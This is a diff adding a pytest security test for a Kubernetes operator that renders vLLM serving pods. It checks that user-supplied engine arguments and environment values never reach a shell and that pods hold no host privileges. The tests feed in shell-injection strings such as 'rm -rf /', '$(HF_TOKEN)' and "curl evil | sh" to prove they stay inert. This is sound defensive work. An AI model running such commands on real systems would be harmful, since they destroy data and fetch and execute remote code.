@@ -1,0 +1,52 @@
+"""Every rendered serving pod: no shell over user text, no host privileges (docs/security.md)."""
+
+import copy
+
+import pytest
+
+from kimi_operator.builders import build_children
+from tests.pods import pod_specs, privilege_problems, shell_problems
+from tests.specs import edited
+from tests.unit.builders.cases import CASES, deployment
+
+HOSTILE_ARGS = ["--chat-template={{ x }}; rm -rf / $(id) `id` | sh", "--seed", "$(HF_TOKEN)"]
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_samples_run_no_shell_and_hold_no_host_privileges(case: str) -> None:
+    doc, defaults = CASES[case]
+    kd = deployment(doc)
+    children = build_children(kd, defaults)
+    assert list(pod_specs(children))
+    assert shell_problems(children, kd) == []
+    assert privilege_problems(children) == []
+
+
+def test_hostile_engine_args_and_env_stay_whole_argv_items_and_env_values() -> None:
+    doc = edited(
+        {
+            "spec.engineArgs": HOSTILE_ARGS,
+            "spec.env": [{"name": "EXTRA", "value": "'; curl evil | sh #\n$(id)"}],
+        }
+    )
+    kd = deployment(doc)
+    children = build_children(kd, CASES["k3-tp8-dspark"][1])
+    assert shell_problems(children, kd) == []
+    for _, pod in pod_specs(children):
+        (vllm,) = pod["containers"]
+        assert vllm["command"] == ["vllm", "serve"]
+        assert vllm["args"][-len(HOSTILE_ARGS) :] == HOSTILE_ARGS
+
+
+def test_the_checks_find_what_they_look_for() -> None:
+    """The checks above can fail: a shell command, host namespaces and privileges are caught."""
+    kd = deployment(edited({"spec.engineArgs": ["--seed", "1"]}))
+    children = build_children(kd, CASES["k3-tp8-dspark"][1])
+    bad = copy.deepcopy(children)
+    lws = next(c for c in bad if c["kind"] == "LeaderWorkerSet")
+    pod = lws["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]
+    pod["containers"][0]["command"] = ["/bin/sh", "-c", "vllm serve --seed 1"]
+    pod["containers"][0]["securityContext"] = {"privileged": True, "capabilities": {"add": ["X"]}}
+    pod |= {"hostNetwork": True, "hostPID": True, "automountServiceAccountToken": True}
+    assert len(shell_problems(bad, kd)) >= 2  # a shell, and user text inside the command
+    assert len(privilege_problems(bad)) == 5
